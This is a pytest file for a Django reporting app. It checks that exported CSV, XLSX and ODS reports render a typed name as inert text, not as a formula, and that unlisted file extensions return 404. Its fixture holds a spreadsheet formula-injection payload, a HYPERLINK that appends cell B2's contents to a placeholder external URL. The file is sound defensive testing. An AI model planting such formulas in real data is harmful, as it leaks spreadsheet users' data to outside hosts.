"""Security of the bilan's downloads: typed names are text, never formulas; only the documented formats answer."""

import csv
import io

import pytest
from django.core.management import call_command
from odf.opendocument import load
from odf.table import TableCell
from odf.teletype import extractText
from openpyxl import load_workbook

from pilotactions.accounts.enums import RoleKind as R
from pilotactions.reports.models import ReportJob
from pilotactions.territories.models import Authority
from tests.factories import login, make_action, make_contract, make_role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'


@pytest.fixture
def data():
    Authority.objects.filter(code="59").update(name=FORMULA)  # a name as typed in the admin
    make_action(make_contract("59"), title="Nord", lines=[(2024, "authority", "100")])
    make_action(make_contract("33"), title="Gironde", lines=[(2024, "authority", "300")])


def test_the_figure_csv_neutralises_text_and_keeps_numbers(client, data):
    login(client, make_role(R.NATIONAL_ADMIN))
    response = client.get("/bilan/figures/cls.budget.by_authority.csv")
    text = response.getvalue().decode().removeprefix("\ufeff")  # the CSV for French Excel: BOM, `;`
    rows = {row[0]: row for row in csv.reader(io.StringIO(text), delimiter=";")}
    assert rows["59"][1] == "'" + FORMULA
    assert rows["59"][2:] == ["100,00", "0,00", "100,00"]  # amounts are numbers: never prefixed
    assert rows["33"][1] == "Département de la Gironde"


def _xlsx_formula_cells(content) -> list:
    workbook = load_workbook(content)
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]


def _ods_formula_cells(content) -> list:
    cells = load(content).spreadsheet.getElementsByType(TableCell)
    return [cell for cell in cells if extractText(cell) == FORMULA]


def _assert_safe(fmt: str, content) -> None:
    if fmt == "xlsx":
        cells = _xlsx_formula_cells(content)
        assert cells and all(cell.data_type == "s" for cell in cells)
    else:
        cells = _ods_formula_cells(content)
        assert cells
        assert all(c.getAttribute("valuetype") == "string" and c.getAttribute("formula") is None for c in cells)


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_the_generated_spreadsheets_never_hold_a_formula(
    client, data, settings, tmp_path, django_capture_on_commit_callbacks, fmt
):
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    login(client, make_role(R.NATIONAL_ADMIN))
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/bilan/rapports/", {"format": fmt, "year": "2024"})
    job = ReportJob.objects.get()
    assert job.status == ReportJob.Status.DONE, job.error
    download = client.get(f"/bilan/rapports/{job.pk}/telecharger/")
    _assert_safe(fmt, io.BytesIO(b"".join(download.streaming_content)))
    out = tmp_path / f"bilan.{fmt}"
    call_command("bilan", format=fmt, out=str(out))
    _assert_safe(fmt, out)


@pytest.mark.parametrize("extension", ["html", "xlsx", "json", "CSV", "csv.html"])
def test_figures_download_only_in_the_documented_formats(client, data, extension):
    login(client, make_role(R.NATIONAL_ADMIN))
    assert client.get(f"/bilan/figures/cls.axes.{extension}").status_code == 404
    assert client.get("/bilan/figures/cls.axes.csv").status_code == 200
